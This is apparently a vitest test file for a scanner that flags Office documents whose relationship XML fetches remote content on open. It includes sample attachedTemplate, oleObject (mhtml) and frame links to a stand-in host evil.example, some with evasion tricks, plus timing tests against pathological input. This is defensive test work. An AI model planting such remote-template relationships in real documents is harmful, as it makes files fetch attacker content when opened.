import { expect, test } from 'vitest'
import { processorMs } from '#server/test/processor-time.ts'
import { fetchesByItself } from './office-links.ts'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const links = (...all: string[]) => Buffer.from(`<?xml version="1.0"?><Relationships>${all.join('')}</Relationships>`)
const link = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="rId1" Type="${office}/${type}" Target="${target}" TargetMode="${mode}"/>`

test.for<[string, Buffer]>([
  ['a template on another host', links(link('attachedTemplate', 'https://evil.example/a.dotm'))],
  ['a template in a shared folder', links(link('attachedTemplate', '\\\\evil.example\\a\\b.dotm'))],
  ['a template in a shared folder, named by an address', links(link('attachedTemplate', 'file://evil.example/a.dotm'))],
  ['an address in character references', links(link('attachedTemplate', '&#104;ttps://evil.example/a.dotm'))],
  ['a link type in character references', links(link('attachedTemplat&#101;', 'https://evil.example/a.dotm'))],
  ['a linked object', links(link('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example'))],
  ['a frame', links(link('frame', 'https://evil.example/'))],
  [
    'a second link to another host',
    links(link('hyperlink', 'https://a.example'), link('oleObject', 'https://evil.example')),
  ],
  [
    'a link in another order, with other quotes and prefix',
    links(
      `<r:Relationship\n TargetMode='External' Target = 'https://evil.example' Type='${office}/attachedTemplate' />`,
    ),
  ],
  ['a link with an Arabic prefix', links(link('attachedTemplate', 'https://evil.example/').replace('<', '<ر:'))],
  [
    'a type that another attribute repeats',
    links(link('frame', 'https://evil.example/').replace('/>', ` xmlns:ر=' Type="x/hyperlink" '/>`)),
  ],
  ['another encoding', Buffer.from(`\ufeff${link('frame', 'https://evil.example/')}`, 'utf16le')],
  ['a list of links that is too long', links(' '.repeat(2 ** 20))],
])('a document with %s is refused', ([, xml]) => {
  expect(fetchesByItself(xml)).toBe(true)
})

test.for<[string, Buffer]>([
  ['links that the reader clicks', links(link('hyperlink', 'https://school.example/?a=1&amp;b=2'))],
  ['its own parts', links(link('oleObject', 'embeddings/oleObject1.bin', 'Internal'))],
  ['the template of its author', links(link('attachedTemplate', 'file:///C:\\Users\\منى\\Templates\\Normal.dotm'))],
  ['the template of a Mac', links(link('attachedTemplate', 'file:///Users/mona/A&amp;B/Normal.dotm'))],
  ['a template in its own folder', links(link('attachedTemplate', 'Normal.dotm'))],
])('a document with %s is accepted', ([, xml]) => {
  expect(fetchesByItself(xml)).toBe(false)
})

test.for([
  ['unfinished links', '<Relationship a="'.repeat(60_000)],
  ['nested quotes', `<Relationship ${`"'`.repeat(500_000)}>`],
  ['prefixes without a name', `<${'a:'.repeat(500_000)}`],
  ['comments without an end', '<!--'.repeat(250_000)],
  ['a name without a value', `<Relationship ${'a'.repeat(1_000_000)}>`],
  ['a name and nothing', `<Relationship a${' '.repeat(1_000_000)}>`],
])('the scan of %s takes less than a second', async ([, xml]) => {
  expect(await processorMs(() => fetchesByItself(Buffer.from(xml as string)))).toBeLessThan(1000)
})
